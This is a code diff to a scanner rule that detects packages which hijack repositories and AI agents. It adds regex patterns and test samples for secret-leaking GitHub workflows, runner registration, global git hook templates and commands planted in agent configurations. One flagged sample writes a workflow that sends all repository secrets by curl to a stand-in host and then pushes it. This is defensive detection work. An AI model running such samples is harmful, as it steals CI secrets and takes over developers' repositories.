@@ -14,10 +14,29 @@ export default defineRule({
       key: 'Lets the owner of a key of its own log in: {path}',
       fetched: 'Writes what {source} answers to {what}',
       offers: 'Writes to {what} when it is asked to',
+      obeyed: 'Has {what} run a command of its own as soon as it is {moment}',
+      leaks: 'Writes a workflow that gives away all secrets of a repository',
+      pushed: 'Puts a workflow into a repository through {sink} as soon as it is {moment}',
+      runner: 'Makes the machine a runner of a repository as soon as it is {moment}',
+      template: 'Sets git hooks for all repositories with {sink}, unasked',
       package: 'Writes into another package: {path}',
       restores: 'Sets a file’s times back after changing it',
     },
-    bits: { planted: 7, injects: 12, persists: 4, key: 14, fetched: 11, offers: 2, package: 5, restores: 5 },
+    bits: {
+      obeyed: 10.5,
+      leaks: 13.5,
+      pushed: 12,
+      runner: 12,
+      template: 11.5,
+      planted: 7,
+      injects: 12,
+      persists: 4,
+      key: 14,
+      fetched: 11,
+      offers: 2,
+      package: 5,
+      restores: 5,
+    },
   },
   examples: {
     flags: [
@@ -49,8 +68,24 @@ export default defineRule({
         title: 'an agent is given a server of the package’s own',
         code: `const fs = require('fs'), os = require('os');\nfs.writeFileSync(os.homedir() + '/.cursor/mcp.json', JSON.stringify({ mcpServers: { tools: { command: 'node', args: [__filename] } } }));`,
       },
+      {
+        title: 'a workflow that prints all secrets is pushed',
+        code: `const { execSync } = require('child_process'), fs = require('fs');\nfs.writeFileSync('.github/workflows/lint.yml', 'on: push\\njobs:\\n  a:\\n    steps:\\n      - run: echo "\${{ toJSON(secrets) }}" | curl -d @- https://collect.invalid');\nexecSync('git push');`,
+      },
+      {
+        title: 'git is given hooks for every repository',
+        code: `require('child_process').execSync('git config --global init.templateDir ' + __dirname + '/t');`,
+      },
     ],
     passes: [
+      {
+        title: 'a command sets hooks for a repository',
+        code: `const { execSync } = require('child_process');\nexports.install = dir => execSync('git config core.hooksPath .husky', { cwd: dir });`,
+      },
+      {
+        title: 'a workflow names one secret',
+        code: `const fs = require('fs');\nexports.scaffold = dir => fs.writeFileSync(dir + '/ci.yml', 'env:\\n  TOKEN: \${{ secrets.NPM_TOKEN }}');`,
+      },
       {
         title: 'a cache is kept beside the packages',
         code: `require('fs').writeFileSync('node_modules/.cache/tool/state.json', '{}');`,
@@ -63,6 +98,7 @@ export default defineRule({
     ],
   },
   file(context) {
+    aboutRepositories(context);
     const client = chatClientCode(context);
     for (const call of context.calls('write')) {
       const [path, text] = call.args;
@@ -100,7 +136,9 @@ export default defineRule({
             : label
               ? 'fetched'
               : place
-                ? messageOf(place, isUnasked(context, call.node))
+                ? place.what === AGENTS && isUnasked(context, call.node) && OBEYED.test(context.file.text)
+                  ? 'obeyed'
+                  : messageOf(place, isUnasked(context, call.node))
                 : 'package',
           data: {
             what: place?.what ?? '',
@@ -135,6 +173,55 @@ export default defineRule({
     }
   },
 });
+
+/** How the vocabulary calls settings that editors and agents take commands from. */
+const AGENTS = 'an editor’s or agent’s configuration';
+/** What in such settings makes them run a command. */
+const OBEYED =
+  /runOn['"]?\s*:\s*['"]folderOpen|\b(?:SessionStart|UserPromptSubmit|PreToolUse|PostToolUse)\b|\bmcpServers\b/;
+
+/** What makes somebody's repositories, or all of a machine's, run something. */
+function aboutRepositories(context: FileContext): void {
+  const { file } = context;
+  const moment = context.moment === 'install' ? 'installed' : 'loaded';
+  const leak = /\$\{\{\s*toJSON\(\s*secrets\s*\)\s*\}\}/i.exec(file.text);
+  const calls = [...context.calls('network'), ...context.calls('write'), ...context.calls('process')];
+  const spoken = calls.map(call => ({ call, texts: call.args.flatMap(arg => context.textsWithin(arg)) }));
+  if (leak) {
+    const carrier = spoken.find(({ texts }) =>
+      texts.some(text => /\.github[\\/]workflows|\/contents\/|git push/.test(text)),
+    );
+    if (carrier) {
+      const origin = { file, start: leak.index, end: leak.index + leak[0].length };
+      context.report({
+        messageId: 'leaks',
+        chain: [
+          { role: 'source', says: 'names all secrets of a repository', origin },
+          step('sink', `writes it with ${carrier.call.name}`, file, carrier.call.node),
+        ],
+      });
+      return;
+    }
+  }
+  for (const { call, texts } of spoken) {
+    const messageId = texts.some(text => /\/contents\/\.github\/workflows\//.test(text))
+      ? 'pushed'
+      : texts.some(text => /actions\/runners\/registration-token|config\.(?:sh|cmd)\b.{0,200}--unattended/.test(text))
+        ? 'runner'
+        : texts.some(text =>
+              /\bgit config\b.{0,30}--(?:global|system).{0,30}(?:init\.templateDir|core\.hooksPath)/i.test(text),
+            )
+          ? 'template'
+          : undefined;
+    if (!messageId || !isUnasked(context, call.node)) continue;
+    context.report({
+      messageId,
+      data: { moment, sink: call.name },
+      chain: [step('sink', `does so with ${call.name}`, file, call.node)],
+    });
+    return;
+  }
+}
 
 /** Where the file names the folder of the chat client's own code. */
 function chatClientCode({ nodes, textsOf }: FileContext): AnyNode | undefined {
